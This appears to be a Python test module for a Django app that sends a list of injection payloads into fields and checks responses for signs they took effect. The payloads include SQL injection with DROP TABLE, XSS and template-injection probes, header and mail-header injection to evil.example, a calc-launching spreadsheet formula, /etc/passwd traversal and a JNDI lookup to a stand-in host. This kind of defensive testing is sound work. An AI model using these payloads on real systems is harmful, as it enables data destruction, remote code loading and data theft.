"""What attackers type (d6), and how to see in an answer that it had an effect."""

import re
from html.parser import HTMLParser

from django.http import HttpResponse

from tests.attacks.answers import text

# One of everything, short enough for any field.
POLYGLOT = "'\"><xss-probe onxss=1>{{1337*1337}}\r\nX-Injected: 1=@"
PAYLOADS = {
    "sql": "x' OR '1'='1'; DROP TABLE passport_passport; --",
    "sql that waits": "x'||pg_sleep(9)--",
    "sql in numbers": "1) OR 1=1--",
    "like": "%_\\",
    "tag": "<xss-probe>",
    "polyglot": POLYGLOT,
    "script": "</title></textarea></script><script>xss_probe()</script>",
    "quotes": '" onxss="1" x="',
    "apostrophes": "' onxss='1' x='",
    "comment": "--><xss-probe><!--",
    "address": "javascript:xss_probe()",
    "entity": "&lt;xss-probe&gt;",
    "template": "{{1337*1337}}${1337*1337}#{1337*1337}<%= 1337*1337 %>",
    "block": "{% for x in range(1337*1337) %}{% endfor %}{{ self.__init__.__globals__ }}",
    "format": "%(secret)s %s %n {0.__class__} {settings.SECRET_KEY}",
    "header": "x\r\nX-Injected: 1\r\n\r\n<xss-probe>",
    "header by line feed": "x\nX-Injected: 1",
    "header by other line ends": "x\u2028X-Injected: 1\u0085\x0b\x0cX-Injected: 1",
    "mail header": "x@example.com\nBcc: evil@evil.example",
    "formula": "=1+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)",
    "formula plus": "+1+1",
    "formula minus": "-1+1",
    "formula tab": "\t=1+1",
    "NUL": "x\0y",
    "NUL alone": "\0",
    "lone surrogate": "x\ud800y",
    "controls": "".join(map(chr, range(1, 32))),
    "right to left": "\u202egnp.exe\u202c",
    "without width": "a\u200bb\u200dc\ufeffd\u2060",
    "combining": "e" + "\u0301" * 500,
    "beyond the plane": "𠮷㛃\U0002a700\U000e0001\U0010ffff",
    "noncharacters": "\ufffe\uffff",
    "long": "a" * 20_000,
    "long chinese": "界" * 20_000,
    "long number": "9" * 5_000,
    "number": "1e309",
    "nan": "NaN",
    "path": "../../../../etc/passwd",
    "log": "x ${jndi:ldap://evil.example/x}",
    "json": '{"$gt": ""}',
    "array": "[]",
}
# What an ordinary run tries; `make prove` tries all.
WORST = ("sql", "polyglot", "template", "header", "NUL", "lone surrogate", "long", "beyond the plane")
# What the page itself must carry to be the page.
_COMPUTED = str(1337 * 1337)


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "xss-probe" or any(name == "onxss" for name, _ in attrs):
            self.found.append(f"<{tag}> made of what was typed")
        if tag == "script" and not any(name == "src" for name, _ in attrs):
            self.found.append("a script within the page")
        for name, value in attrs:
            if name in ("href", "src", "action", "formaction") and re.match(r"\s*javascript:", value or "", re.I):
                self.found.append(f"{name} is a script")


def effects_on(html: str) -> list[str]:
    """What a page shows of a payload that wasn't taken as plain words."""
    tags = _Tags()
    tags.feed(html)
    found = tags.found
    if _COMPUTED in html:
        found.append("a template was computed")
    if "SECRET_KEY" in html.replace("settings.SECRET_KEY", "") or "__builtins__" in html:
        found.append("the program's inside")
    if "Traceback" in html or "psycopg" in html or "syntax error" in html:
        found.append("a fault's words")
    return found


def effects(answer: HttpResponse) -> list[str]:
    """What an answer shows of a payload that wasn't taken as plain words: 5xx, headers, and the page."""
    found = [] if answer.status_code < 500 else [f"{answer.status_code}"]
    headers = [*answer.headers.items(), *((name, one.OutputString()) for name, one in answer.cookies.items())]
    for name, value in headers:
        if name.lower() == "x-injected" or re.search(r"[\r\n\0]", value):
            found.append(f"a header of the payload's: {name}")
    if "html" in answer.headers.get("Content-Type", ""):
        found += effects_on(text(answer))
    return found
